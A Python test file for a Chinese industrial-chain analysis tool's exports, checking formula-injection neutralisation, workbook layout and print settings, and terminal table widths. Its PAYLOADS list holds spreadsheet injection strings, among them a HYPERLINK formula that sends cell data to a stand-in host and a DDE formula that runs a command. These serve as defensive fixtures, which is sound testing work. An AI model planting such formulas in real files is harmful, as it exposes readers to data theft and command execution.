"""Files for people: formula injection neutralised in every CSV and XLSX cell (known payloads), the workbook
explains itself and prints (说明 sheet, landscape, one page wide, header repeated, numbers as numbers,
gaps only on the gaps sheet, Chinese chain names), terminal tables within 80 and 120 columns."""

from __future__ import annotations

import io
import os
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import chainmap
from chainmap.present import exports
from chainmap.present.terminal import table_text
from chainmap.safe import neutralise
from chainmap.vocab import CRITERIA_LABELS, OUTPUTS

from .conftest import run_cli

PAYLOADS = [
    '=HYPERLINK("http://x/?d="&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def hostile_targets() -> pd.DataFrame:
    rows = []
    for i, p in enumerate(PAYLOADS, 1):
        rows.append(
            {
                "rank": i,
                "company": f"c{i}",
                "name": p,
                "short_name": p,
                "province": p,
                "city": "苏州市",
                "stock_code": None,
                "tags": [p],
                "score": 50.5 - i,
                "covers": ["n1"],
                "cover_names": [p],
                "gap_types": ["fill"],
                "chains": ["polyester"],
                "local_ties": [],
                "why": p,
                "breakdown": {"gap_priority": 20.0, "coverage": 10.5},
            }
        )
    return pd.DataFrame(rows)


def test_neutralise_rules():
    assert all(neutralise(p).startswith("'") for p in PAYLOADS)
    assert (
        neutralise("东方盛虹") == "东方盛虹"
        and neutralise(3) == 3
        and neutralise(-2.5) == -2.5
        and neutralise(None) is None
    )


@given(st.text(min_size=1))
def test_no_text_a_spreadsheet_evaluates_survives(s):
    out = neutralise(s)
    assert not out.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))
    assert out in (s, "'" + s)


def test_csv_cells_are_neutralised():
    raw = exports.to_csv(hostile_targets(), "targets")
    df = pd.read_csv(io.BytesIO(raw), encoding="utf-8-sig", keep_default_na=False)
    for col in ("企业名称", "省份", "推荐理由", "标签", "可填补缺口"):
        assert all(v.startswith("'") for v in df[col]), col
    assert set(df["企业名称"]) == {"'" + p for p in PAYLOADS}  # the text is kept, behind the apostrophe
    assert df["得分"].dtype.kind == "f"  # numbers stay numbers


def test_xlsx_cells_are_text_never_formulas():
    data = exports.to_xlsx({"targets": hostile_targets()})
    wb = openpyxl.load_workbook(io.BytesIO(data))
    ws = wb["目标企业清单"]
    for row in ws.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell.value
    names = [ws.cell(row=r, column=2).value for r in range(2, ws.max_row + 1)]
    assert names == [("'" + p).replace("\r", "\n") for p in PAYLOADS]  # XML reads a CR as a line feed


@pytest.fixture(scope="module")
def report(tmp_path_factory):
    out = tmp_path_factory.mktemp("wb") / "report.xlsx"
    res = run_cli("report", "--all", "-o", str(out))
    assert res.returncode == 0, res.stderr
    return openpyxl.load_workbook(out)


def test_workbook_explains_itself(report):
    ws = report["说明"]
    text = "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
    assert "连云港市" in text and "企业数据截至" in text
    lib = chainmap.load()
    weights = lib.regions["lianyungang"].weights
    for key, label in CRITERIA_LABELS.items():
        assert f"{label}" in text and f"满分 {getattr(weights, key):g} 分" in text
    for sheet in report.sheetnames[1:]:
        assert sheet in text
    for col in OUTPUTS["targets"]:
        if col.key in exports.HEADERS["targets"]:
            assert col.meaning in text


def test_every_sheet_prints_landscape_one_page_wide(report):
    for ws in report.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.page_setup.fitToHeight == 0
        if ws.title != "说明":
            assert ws.print_title_rows == "$1:$1" and ws.freeze_panes == "A2"
            assert all(ws.column_dimensions[c.column_letter].width <= 42 for c in ws[1])
            assert ws.cell(row=2, column=1).alignment.wrap_text


def test_sheets_hold_numbers_chinese_names_and_gaps_only(report):
    gaps = report["缺链清单"]
    heads = [c.value for c in gaps[1]]
    types = {gaps.cell(row=r, column=heads.index("缺口类型") + 1).value for r in range(2, gaps.max_row + 1)}
    assert types <= {"补链", "延链", "强链"} and types
    nodes = report["全部节点状态"]
    assert nodes.max_row > gaps.max_row  # every node's status, gaps or not
    chains = {gaps.cell(row=r, column=heads.index("产业链") + 1).value for r in range(2, gaps.max_row + 1)}
    assert "聚酯纤维" in chains and "polyester" not in chains
    prio = gaps.cell(row=2, column=heads.index("优先级（0-100）") + 1)
    assert isinstance(prio.value, float) and prio.number_format == "0.0"
    comp = report["产业链完整度"]
    ch = [c.value for c in comp[1]]
    cell = comp.cell(row=2, column=ch.index("完整度") + 1)
    assert isinstance(cell.value, float) and 0 <= cell.value <= 1 and cell.number_format == "0%"
    t = report["目标企业清单"]
    th = [c.value for c in t[1]]
    assert any(h.startswith("得分（满分") for h in th)
    crit = [h for h in th if "（满分" in h and not h.startswith("得分")]
    assert len(crit) == len(CRITERIA_LABELS)
    for r in range(2, min(t.max_row, 30) + 1):
        total = t.cell(row=r, column=th.index(next(h for h in th if h.startswith("得分（"))) + 1).value
        parts = sum(t.cell(row=r, column=th.index(h) + 1).value for h in crit)
        assert abs(total - parts) < 0.05


@pytest.mark.parametrize("width", [80, 120])
def test_terminal_tables_fit_the_width(width):
    a = chainmap.analyse(chainmap.load(), ["polyester"], "lianyungang")
    for kind, df in (("targets", a.targets), ("gaps", a.gaps), ("routes", a.routes)):
        people = exports.for_people(df.head(20), kind, exports.TERMINAL[kind], max_items=8)
        text = table_text(people, title="标题", width=width)
        from rich.cells import cell_len

        assert max(cell_len(line) for line in text.splitlines()) <= width, kind
        assert "…" in text and "--format csv" in text  # long text cut, and the note says where the rest is


def test_terminal_width_comes_from_the_terminal():
    for cols in ("80", "120"):
        env = {**os.environ, "COLUMNS": cols}
        res = subprocess.run(
            [sys.executable, "-m", "chainmap", "targets", "polyester", "--top", "5"],
            capture_output=True,
            text=True,
            encoding="utf-8",
            env=env,
        )
        from rich.cells import cell_len

        assert res.returncode == 0
        assert max(cell_len(line) for line in res.stdout.splitlines()) <= int(cols)


def test_targets_at_80_columns_drop_province_before_cutting_why():
    """At 80 columns 省份 goes first (城市 suffices) and 推荐理由 keeps the most room of the long columns."""
    import json

    from rich.cells import cell_len

    res = run_cli("targets", "polyester", "--top", "6", env={"COLUMNS": "80"})
    assert res.returncode == 0
    lines = res.stdout.splitlines()
    assert max(cell_len(line) for line in lines) <= 80
    head = next(line for line in lines if "排名" in line)
    assert "城市" in head and "推荐理由" in head and "省份" not in head
    assert "省略列：省份" in res.stdout
    whys = [r["why"] for r in json.loads(run_cli("targets", "polyester", "--top", "6", "--format", "json").stdout)]
    rows = [line for line in lines if line.startswith("│")]
    assert len(rows) == len(whys)
    for row, why in zip(rows, whys, strict=True):
        cells = [c.strip() for c in row.strip("│").split("│")]
        shown = next(c for c in cells if c and why.startswith(c.rstrip(" …")) and len(c.rstrip(" …")) >= 10)
        assert cell_len(shown) >= max(cell_len(c) for c in cells if c is not shown and not c[:1].isdigit()), row
    wide = run_cli("targets", "polyester", "--top", "6", env={"COLUMNS": "400"})
    assert "省份" in next(line for line in wide.stdout.splitlines() if "排名" in line)  # room enough: kept
